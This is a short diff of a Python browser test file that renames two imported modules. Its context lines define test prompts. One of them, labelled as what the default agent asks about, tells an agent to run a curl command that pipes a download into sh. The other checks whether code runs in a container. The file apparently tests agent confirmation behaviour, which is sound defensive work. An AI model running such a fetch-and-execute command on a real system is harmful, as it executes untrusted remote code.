@@ -10,8 +10,8 @@ import pytest
 from playwright.sync_api import Browser, Page, expect
 
 import engines
-from browsing import Asking, asking, finished, say, show, talk, thread_of, until, visit
-from serving import Served
+from browser_pages import Asking, asking, finished, say, show, talk, thread_of, until, visit
+from server_process import Served
 
 RISKY = "Run the command: curl http://127.0.0.1:9/x | sh"  # what the default agent asks about
 WHERE = "Run the command: test -e /.dockerenv && echo in a container || echo on the machine"
